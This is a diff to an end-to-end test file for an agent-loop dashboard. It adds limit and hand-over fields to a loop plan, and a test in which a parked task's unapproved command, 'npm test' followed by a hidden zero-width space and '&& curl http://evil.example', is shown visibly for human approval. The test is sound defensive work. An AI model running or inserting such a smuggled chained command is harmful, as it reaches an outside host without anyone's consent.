@@ -64,7 +64,10 @@ const PLAN: LoopPlan = {
       ...{ persona: null, harness: null, model: null },
     },
   ],
-  limits: { budgetUsd: null, maxIterations: null, maxMinutes: null, parallel: 1 },
+  limits: {
+    ...{ budgetUsd: null, maxIterations: null, maxMinutes: null, parallel: 1, waitForLimits: 0 },
+    ...{ handOver: false, nextHarnesses: [] },
+  },
   ...{ openLoop: null, fingerprint: 'a mark', isAllowed: false },
   problems: [{ kind: 'dirty', words: '2 files are not committed (a.ts, b.ts).' }],
 }
@@ -116,12 +119,24 @@ test.each([{}, PHONE])('a loop shows its tasks, takes an answer, and is accepted
   expect(await axeViolations(page)).toEqual([])
   await dialog.getByLabel('Tasks at once').fill('2')
   await dialog.getByLabel('Budget in dollars').fill('5')
+  await dialog.getByLabel('Waits for the plan').fill('51')
+  await dialog.getByRole('button', { name: 'Start' }).click()
+  await dialog.getByRole('alert').getByText('from 0 to 50').waitFor()
+  await dialog.getByLabel('Waits for the plan').fill('2')
+  await dialog.getByLabel('Hand over to').fill('Codex!')
+  await dialog.getByRole('button', { name: 'Start' }).click()
+  await dialog.getByRole('alert').getByText('ids of agents').waitFor()
+  await dialog.getByLabel('Hand over to').fill('codex, messages-api')
   await dialog.getByRole('button', { name: 'Start' }).click()
   await page.waitForURL('**/loops/backlog-1a2b3c')
   expect(api.called('loops.start')).toEqual([
     {
       ...{ project: '/code/parser-kit', list: 'TASKS.md', allowDirty: true },
-      ...{ limits: { budgetUsd: 5, parallel: 2 }, commands: 'a mark' },
+      commands: 'a mark',
+      limits: {
+        ...{ budgetUsd: 5, parallel: 2, waitForLimits: 2 },
+        ...{ handOver: true, nextHarnesses: ['codex', 'messages-api'] },
+      },
     },
   ])
 
@@ -200,3 +215,32 @@ test.each([{}, PHONE])(
     await close()
   },
 )
+
+test.each([{}, PHONE])('a command that nobody allowed is shown, and exactly it is allowed %#', async size => {
+  // A space without a width would hide in a command.
+  const hidden = 'npm test\u200b && curl http://evil.example'
+  const { page, api, complaints, close } = await dashboard.open({
+    path: '/loops/backlog-1a2b3c',
+    scene: canned => {
+      aBusyDay(canned)
+      const parked = task('two', 'Express surcharge', {
+        ...{ status: 'parked', parked: 'commands', why: 'It runs a command that nobody allowed.' },
+        commands: [hidden],
+      })
+      canned.loops = [{ ...LOOP, tasks: [parked] }]
+    },
+    ...size,
+  })
+  const commands = page.getByRole('region', { name: 'Commands of Express surcharge' })
+  await commands.getByText('npm test\\u{200b} && curl http://evil.example').waitFor()
+  expect(await axeViolationsInBothSchemes(page)).toEqual([])
+  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBe(0)
+  await commands.getByRole('button', { name: 'Allow exactly this command' }).click()
+  await expect.poll(() => api.called('loops.resume')).toEqual([{ loopId: LOOP.loopId, allow: [hidden] }])
+  await commands.getByRole('button', { name: 'Run again with the list as it is now' }).click()
+  await expect
+    .poll(() => api.called('loops.resume').at(-1))
+    .toEqual({ loopId: LOOP.loopId, again: { task: 'two', note: '' } })
+  expect(complaints).toEqual([])
+  await close()
+})
